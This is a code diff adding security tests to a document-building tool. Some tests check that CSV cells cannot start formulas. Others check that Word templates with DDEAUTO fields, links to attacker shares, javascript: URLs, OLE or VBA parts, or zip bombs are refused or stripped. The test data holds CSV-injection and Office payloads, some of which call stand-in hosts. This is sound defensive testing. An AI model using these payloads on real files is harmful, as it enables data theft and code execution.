@@ -16,6 +16,7 @@ in Word (OUTPUT_CHECKS); the README's reliability section quotes these figures.
 from __future__ import annotations
 
 import copy
+import csv
 import functools
 import html
 import io
@@ -26,18 +27,22 @@ import zipfile
 from collections import Counter
 from collections.abc import Callable
 from dataclasses import dataclass
+from decimal import Decimal
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any, Literal
 
 import pytest
 import yaml
+from click.testing import CliRunner
 from lxml import etree
 
+from notebuild.cli import main
 from notebuild.pipeline import check_file, compose, render_outputs
+from notebuild.round.activities import csv_text
 from notebuild.writers.html import environment
 
-from .conftest import NOTES
+from .conftest import NOTES, ROOT
 from .html_text import html_text
 from .payloads import PAYLOADS, Payload
 from .test_browser import SCRIPT, _require_tools
@@ -831,3 +836,308 @@ def test_payload_page_runs_nothing_in_chromium(browser_results, base):
 def test_payload_pages_are_opened_with_their_policy_in_force(browser_results):
     result = browser_results[CONTROL]
     assert [v.split()[0] for v in result["csp_violations"]] == ["script-src-elem"]
+
+
+# --- spreadsheet formulas in the round's CSV --------------------------------------------------
+
+# From OWASP's "CSV Injection" page and the payloads it cites: each would run as a formula in
+# Excel, LibreOffice or Sheets if it stood at the start of a cell.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1&B1,"Klik her")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    '=IMPORTXML(CONCAT("http://example.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
+]
+
+
+def test_csv_cells_are_never_formulas_and_amounts_stay_numbers(tmp_path):
+    notes = tmp_path / "notes"
+    notes.mkdir()
+    text = (NOTES / "BI19.yaml").read_text("utf-8")
+    names = re.findall(r"(?m)^    - navn: (.*)$", text)[:3]  # the three activities
+    # Written as JSON strings, which YAML reads as double-quoted scalars (with \t and \n).
+    text = text.replace(
+        "titel: Forankring af metoder fra Projekt Trædesten", f"titel: {json.dumps(FORMULAS[0])}"
+    )
+    for name, formula in zip(
+        names, ["To\nlinjer\r\nog mere", FORMULAS[1], FORMULAS[3]], strict=False
+    ):
+        text = text.replace(f"- navn: {name}\n", f"- navn: {json.dumps(formula)}\n", 1)
+    (notes / "BI19.yaml").write_text(text, "utf-8")
+    result = CliRunner().invoke(main, ["build", str(notes), "--out", str(tmp_path / "build")])
+    assert result.exit_code == 0, result.output
+    data = (tmp_path / "build" / "aktiviteter.csv").read_bytes().decode("utf-8-sig")
+    assert "\n" not in data.replace("\r\n", "")  # one line per row: no break inside a cell
+    header, *rows = csv.reader(io.StringIO(data), delimiter=";")
+    amount, year = header.index("Beløb"), header.index("År")
+    seen = set()
+    for row in rows:
+        for column, cell in enumerate(row):
+            if column in (amount, year):
+                Decimal(cell.replace(",", "."))  # a number, as written before
+            else:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+                seen.add(cell)
+    assert "'" + FORMULAS[0] in seen
+    assert any(cell.startswith("'+1+cmd") for cell in seen)
+    assert any(cell.startswith("'@SUM") for cell in seen)
+    assert "To linjer og mere" in seen
+    for formula in FORMULAS:
+        assert csv_text(formula) == "'" + formula
+
+
+# --- Word templates: nothing active or external is carried into the outputs -----------------
+
+HOUSE = ROOT / "templates" / "husformat.docx"
+_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+_MB = 1024 * 1024
+
+
+def _template(path: Path, parts: dict[str, bytes | Callable[[bytes], bytes]]) -> Path:
+    """Write the house template with parts added (bytes) or changed (a function of the old)."""
+    with zipfile.ZipFile(HOUSE) as house:
+        old = {name: house.read(name) for name in house.namelist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in {**old, **{n: p for n, p in parts.items() if n not in old}}.items():
+            change = parts.get(name)
+            out.writestr(name, change(data) if callable(change) else (change or data))
+    return path
+
+
+def _add_rel(rel: str) -> Callable[[bytes], bytes]:
+    return lambda data: data.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
+
+
+def _rels(*rels: str) -> bytes:
+    return f'<Relationships xmlns="{_RELS_NS}">{"".join(rels)}</Relationships>'.encode()
+
+
+def _in_footer(xml: str) -> Callable[[bytes], bytes]:
+    return lambda data: data.replace(b"</w:ftr>", xml.encode() + b"</w:ftr>")
+
+
+def _in_header(xml: str) -> Callable[[bytes], bytes]:
+    return lambda data: data.replace(b"</w:hdr>", xml.encode() + b"</w:hdr>")
+
+
+def _rel(r_id: str, kind: str, target: str, external: bool = True) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="{r_id}" Type="{kind}" Target="{target}"{mode}/>'
+
+
+_FIELD = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{a}</w:instrText></w:r>'
+    '<w:r><w:instrText>{b}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+_HEADER_RELS = "word/_rels/header1.xml.rels"
+_FOOTER_RELS = "word/_rels/footer1.xml.rels"
+
+# (id, parts, words the refusal must say)
+REFUSED_TEMPLATES = [
+    (
+        "dde-field-in-footer",
+        {
+            "word/footer1.xml": _in_footer(
+                "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"'>"
+                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
+            )
+        },
+        "feltet DDEAUTO",
+    ),
+    (
+        "includepicture-split-over-runs-in-header",
+        {
+            "word/header1.xml": _in_header(
+                _FIELD.format(a="INCLUDEPIC", b='TURE "\\\\\\\\attacker\\\\share\\\\a.png" \\d')
+            )
+        },
+        "feltet INCLUDEPICTURE",
+    ),
+    (
+        "includetext-in-footer",
+        {"word/footer1.xml": _in_footer(_FIELD.format(a=" INCLUDETEXT ", b='"http://x/a.docx"'))},
+        "feltet INCLUDETEXT",
+    ),
+    (
+        "javascript-link-in-footer",
+        {
+            "word/footer1.xml": _in_footer(
+                f'<w:p><w:hyperlink xmlns:r="{_R_NS}" r:id="rIdJ"><w:r><w:t>Klik</w:t></w:r>'
+                "</w:hyperlink></w:p>"
+            ),
+            _FOOTER_RELS: _rels(_rel("rIdJ", f"{_R_NS}/hyperlink", "javascript:alert(1)")),
+        },
+        "javascript:alert(1)",
+    ),
+    (
+        "hyperlink-field-to-a-file",
+        {"word/footer1.xml": _in_footer(_FIELD.format(a="HYPERLINK ", b='"file:///C:/x.exe"'))},
+        "feltet HYPERLINK til file:///C:/x.exe",
+    ),
+    (
+        "external-image-in-header",
+        {
+            "word/header1.xml": _in_header(
+                f'<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
+                f'xmlns:r="{_R_NS}" r:id="rIdI"/></w:pict></w:r></w:p>'
+            ),
+            _HEADER_RELS: _rels(_rel("rIdI", f"{_R_NS}/image", "\\\\attacker\\share\\logo.png")),
+        },
+        "attacker",
+    ),
+    (
+        "ole-object-in-header",
+        {
+            "word/header1.xml": _in_header(
+                "<w:p><w:r><w:object><o:OLEObject "
+                'xmlns:o="urn:schemas-microsoft-com:office:office" '
+                f'xmlns:r="{_R_NS}" r:id="rIdO" ProgID="Package"/></w:object></w:r></w:p>'
+            ),
+            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100),
+            _HEADER_RELS: _rels(
+                _rel("rIdO", f"{_R_NS}/oleObject", "embeddings/oleObject1.bin", False)
+            ),
+            "[Content_Types].xml": lambda d: d.replace(
+                b"</Types>",
+                b'<Default Extension="bin" '
+                b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
+            ),
+        },
+        "indlejret objekt (OLE)",
+    ),
+]
+
+
+def _render_with(template: Path, folder: Path):
+    return CliRunner().invoke(
+        main,
+        [
+            "render",
+            str(NOTES / "BI19.yaml"),
+            "-o",
+            str(folder),
+            "-f",
+            "docx",
+            "--template",
+            str(template),
+        ],
+    )
+
+
+@pytest.mark.parametrize(
+    ("parts", "words"), [c[1:] for c in REFUSED_TEMPLATES], ids=[c[0] for c in REFUSED_TEMPLATES]
+)
+def test_a_template_that_would_fetch_or_run_something_is_refused_naming_it(tmp_path, parts, words):
+    template = _template(tmp_path / "skabelon.docx", parts)
+    result = _render_with(template, tmp_path / "ud")
+    assert result.exit_code == 1, result.output
+    assert "Traceback" not in result.output
+    assert "Word-skabelonen har indhold, der henter eller kører noget" in result.output
+    assert words in result.output
+    assert not (tmp_path / "ud").exists()
+
+
+def _package(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as package:
+        return {name: package.read(name) for name in package.namelist()}
+
+
+def test_an_attached_template_a_mail_merge_source_and_a_vba_project_are_dropped(tmp_path):
+    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+    template = _template(
+        tmp_path / "skabelon.docx",
+        {
+            "word/settings.xml": lambda d: d.replace(
+                b"</w:settings>",
+                f'<w:attachedTemplate xmlns:r="{_R_NS}" r:id="rIdT"/>'.encode()
+                + b"<w:mailMerge>"
+                + f'<w:dataSource xmlns:r="{_R_NS}" r:id="rIdM"/>'.encode()
+                + b"</w:mailMerge>"
+                + b"</w:settings>",
+            ),
+            "word/_rels/settings.xml.rels": _rels(
+                _rel("rIdT", f"{_R_NS}/attachedTemplate", "file://attacker/share/Normal.dotm"),
+                _rel("rIdM", f"{_R_NS}/mailMergeSource", "file:///C:/kilder/adresser.xlsx"),
+            ),
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0vbaProject" + bytes(100),
+            "word/_rels/document.xml.rels": _add_rel(_rel("rIdV", vba, "vbaProject.bin", False)),
+            "[Content_Types].xml": lambda d: d.replace(
+                b"</Types>",
+                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                b"</Types>",
+            ),
+        },
+    )
+    result = _render_with(template, tmp_path / "ud")
+    assert result.exit_code == 0, result.output
+    parts = _package(tmp_path / "ud" / "BI19.docx")
+    everything = b"".join(parts.values())
+    assert not any("vbaProject" in name for name in parts)
+    for left_out in (
+        b"attachedTemplate",
+        b"attacker",
+        b"mailMerge",
+        b"adresser.xlsx",
+        b"vbaProject",
+    ):
+        assert left_out not in everything, left_out
+
+
+def test_a_template_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
+    import tracemalloc
+
+    bomb = b"\0" * (60 * _MB)  # packs to 60 kB: a part over MAX_TEMPLATE_PART, linked as image
+    template = _template(
+        tmp_path / "bombe.docx",
+        {
+            "word/media/image1.png": bomb,
+            _HEADER_RELS: _rels(_rel("rIdB", f"{_R_NS}/image", "media/image1.png", False)),
+        },
+    )
+    del bomb
+    assert template.stat().st_size < 2 * _MB
+    tracemalloc.start()
+    try:
+        result = _render_with(template, tmp_path / "ud")
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert result.exit_code == 1, result.output
+    assert "Word-skabelonen er for stor: delen word/media/image1.png fylder 60 MB" in result.output
+    assert "MAX_TEMPLATE_PART" in result.output
+    assert peak < 30 * _MB  # the part was never unpacked
+    assert not (tmp_path / "ud").exists()
+
+
+def test_a_part_that_unpacks_a_thousand_times_is_refused(tmp_path):
+    template = _template(
+        tmp_path / "bombe.docx",
+        {
+            "word/media/image1.png": b"\0" * (4 * _MB),
+            _HEADER_RELS: _rels(_rel("rIdB", f"{_R_NS}/image", "media/image1.png", False)),
+        },
+    )
+    result = _render_with(template, tmp_path / "ud")
+    assert result.exit_code == 1, result.output
+    assert "MAX_TEMPLATE_RATIO" in result.output and "zip-bombe" in result.output
+
+
+def test_the_house_template_and_its_http_links_are_trusted(tmp_path):
+    template = _template(
+        tmp_path / "skabelon.docx",
+        {
+            "word/footer1.xml": _in_footer(
+                f'<w:p><w:hyperlink xmlns:r="{_R_NS}" r:id="rIdH"><w:r><w:t>kk.dk</w:t></w:r>'
+                "</w:hyperlink></w:p>"
+            ),
+            _FOOTER_RELS: _rels(_rel("rIdH", f"{_R_NS}/hyperlink", "https://www.kk.dk/")),
+        },
+    )
+    result = _render_with(template, tmp_path / "ud")
+    assert result.exit_code == 0, result.output
+    assert b"https://www.kk.dk/" in _package(tmp_path / "ud" / "BI19.docx")[_FOOTER_RELS]
